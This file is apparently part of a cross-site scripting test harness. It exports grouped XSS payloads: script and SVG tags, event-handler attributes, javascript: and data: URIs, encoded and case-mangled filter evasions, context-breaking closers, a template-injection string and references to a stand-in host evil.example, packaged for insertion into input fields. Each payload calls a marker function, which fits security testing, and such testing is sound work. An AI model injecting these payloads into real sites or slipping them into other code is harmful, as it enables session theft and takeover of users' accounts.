// Ways to smuggle a script into text. Each calls `xss`, which every page of the proof defines.

/** Several of these are tried in one text. */
const TOGETHER = [
  '<script>xss()</script>',
  '<svg/onload=xss()>',
  '<img src=x onerror=xss()>',
  '"><script>xss()</script>',
  "'><img src=x onerror=xss()>",
  '" autofocus onfocus=xss() x="',
  "' autofocus onfocus=xss() x='",
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<iframe src="javascript:parent.xss()"></iframe>',
  '<body onload=xss()>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()>',
  '<marquee onstart=xss()>',
  '<object data="javascript:xss()"></object>',
  '<embed src="javascript:xss()">',
  '<form><button formaction="javascript:xss()" autofocus>',
  '<a href="javascript:xss()">x</a>',
  '<math><mtext><script>xss()</script></mtext></math>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a href="javascript:xss()"><text>x</text></a></svg>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=xss()>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href="https://evil.example/">',
  '<style>@import "data:text/css,";</style><img src onerror=xss()>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<SCRIPT>xss()</SCRIPT>',
  '<script\u000d>xss()</script>',
  '<img/src="x"/onerror="xss()">',
  '<img src=x onerror=&#120;ss()>',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '\\x3cscript\\x3exss()\\x3c/script\\x3e',
  '%3Cscript%3Exss()%3C/script%3E',
  '＜script＞xss()＜/script＞',
  '<p style="animation-name:x" onanimationstart=xss()>',
  '<template><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
];
/** Each ends a different context; they can be combined without affecting each other. */
const ENDINGS = [
  '</script><script>xss()</script>',
  '</title><script>xss()</script>',
  '</textarea><script>xss()</script>',
  '</style><script>xss()</script>',
  '--><script>xss()</script>',
  ']]><script>xss()</script>',
  '{{constructor.constructor("xss()")()}}',
];
/** Each must be at the beginning of the text, or a quote before it would spoil it. */
const ALONE = [
  'javascript:xss()',
  'JaVaScRiPt:xss()//',
  'java\tscript:xss()',
  ' javascript:xss()',
  'data:text/html,<script>parent.xss()</script>',
  'vbscript:xss()',
  '//evil.example/x.js',
  "';xss();//",
  '";xss();//',
  '`-xss()-`',
  `$${'{xss()}'}`,
  '\u2028xss()//',
];
const GROUP = 7;
/** The texts to put into a field; into a short field, as much as fits. */
export const LOADS = [
  ...Array.from({ length: Math.ceil(TOGETHER.length / GROUP) }, (_, at) =>
    TOGETHER.slice(at * GROUP, (at + 1) * GROUP),
  ),
  ENDINGS,
  ...ALONE.map((vector) => [vector]),
];
